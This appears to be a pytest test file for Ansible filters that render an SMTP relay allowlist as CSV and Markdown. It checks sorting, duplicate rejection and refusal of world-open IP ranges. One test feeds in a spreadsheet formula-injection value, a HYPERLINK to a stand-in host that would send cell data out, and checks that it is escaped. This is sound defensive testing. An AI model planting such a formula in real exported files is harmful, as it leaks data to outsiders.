# SPDX-License-Identifier: GPL-3.0-or-later
"""The fleet filters through Ansible's templating, as the allowlist playbook uses them."""

from __future__ import annotations

import pytest
from ansible.errors import AnsibleError
from ansible.parsing.dataloader import DataLoader
from ansible.template import Templar, trust_as_template

from ansible_collections.smtp.relay.plugins.filter.allowlist import FilterModule
from ansible_collections.smtp.relay.plugins.module_utils._allowlist.render import render_csv, render_fleet_markdown


def render(expression, **variables):
    return Templar(loader=DataLoader(), variables=variables).template(trust_as_template(expression))


def request(fqdn, **extra):
    return {
        "fqdn": fqdn,
        "purpose": "Alerts",
        "ipv4": ["10.89.0.11"],
        "ipv6": [],
        "team": "Ops",
        "contact": "#ops",
        "relay": None,
        **extra,
    }


REQUESTS = [request("web2.example.test"), request("db1.example.test", ipv6=["fd00::12"])]


def test_filter_names():
    assert set(FilterModule().filters()) == {"allowlist_fleet_csv", "allowlist_fleet_markdown"}


def test_fleet_csv_is_the_module_renderer_sorted():
    got = render("{{ requests | smtp.relay.allowlist_fleet_csv }}", requests=REQUESTS)
    assert got == render_csv(REQUESTS)
    assert [line.split(",")[0] for line in got.splitlines()] == ["fqdn", "db1.example.test", "web2.example.test"]


def test_fleet_markdown_with_title():
    got = render("{{ requests | smtp.relay.allowlist_fleet_markdown(title='Agency relay') }}", requests=REQUESTS)
    assert got == render_fleet_markdown(REQUESTS, "Agency relay")
    assert got.startswith("# Agency relay\n")
    assert got.splitlines()[4].startswith("| db1.example.test | Alerts | 10.89.0.11 | fd00::12 |")


@pytest.mark.parametrize("name", ["allowlist_fleet_csv", "allowlist_fleet_markdown"])
def test_duplicate_fqdn_is_an_error(name):
    with pytest.raises(AnsibleError, match="same FQDN"):
        render("{{ requests | smtp.relay." + name + " }}", requests=[*REQUESTS, request("db1.example.test")])


def test_not_a_request_is_an_error():
    with pytest.raises(AnsibleError, match="at least fqdn"):
        render("{{ requests | smtp.relay.allowlist_fleet_csv }}", requests=[{"ipv4": []}])


def test_fleet_csv_neutralises_formulas_from_any_host():
    evil = request("a.example.test", team='=HYPERLINK("http://x.example/?"&A1)', purpose="@SUM(1)", contact="-1")
    got = render("{{ requests | smtp.relay.allowlist_fleet_csv }}", requests=[evil])
    row = got.splitlines()[1]
    assert row.startswith('a.example.test,\'@SUM(1),10.89.0.11,,,"\'=HYPERLINK(""http://x.example/?""&A1)",\'-1,')


@pytest.mark.parametrize("name", ["allowlist_fleet_csv", "allowlist_fleet_markdown"])
@pytest.mark.parametrize(
    ("field", "value"), [("ipv4", ["0.0.0.0/0"]), ("ipv6", ["::/0"]), ("ipv6", ["::ffff:127.0.0.1"])]
)
def test_world_granting_request_is_an_error(name, field, value):
    with pytest.raises(AnsibleError, match=field):
        render("{{ requests | smtp.relay." + name + " }}", requests=[request("a.example.test", **{field: value})])
